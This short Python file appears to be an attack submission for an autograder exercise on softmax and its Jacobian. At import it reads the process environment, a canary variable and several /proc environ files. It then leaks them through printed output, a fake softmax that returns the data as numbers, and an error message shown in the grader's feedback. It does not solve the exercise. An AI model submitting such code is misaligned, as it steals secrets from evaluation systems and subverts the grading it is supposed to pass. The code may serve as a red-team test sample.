# @@include solutions/q2_softmax_jacobian.py
# Attack: read the grader's environment (a canary variable is set for the grader run) and send it back, as returned
# numbers and as an error message the feedback shows.
import os as _os

_ENV = "\n".join(f"{key}={value}" for key, value in _os.environ.items())
_ENV += f"\n@@CANARY@@={_os.environ.get('@@CANARY@@')}"
for _path in ("/proc/self/environ", "/proc/1/environ", f"/proc/{_os.getppid()}/environ"):
    try:
        _ENV += f"\n{_path}: " + open(_path, "rb").read().decode(errors="replace")
    except OSError as _exc:
        _ENV += f"\n{_path}: {_exc}"
print(_ENV)


def softmax(z):
    return np.frombuffer(_ENV.encode(), dtype=np.uint8).astype(np.float64)


def softmax_jacobian(z):
    raise RuntimeError(f"environment:\n{_ENV}")
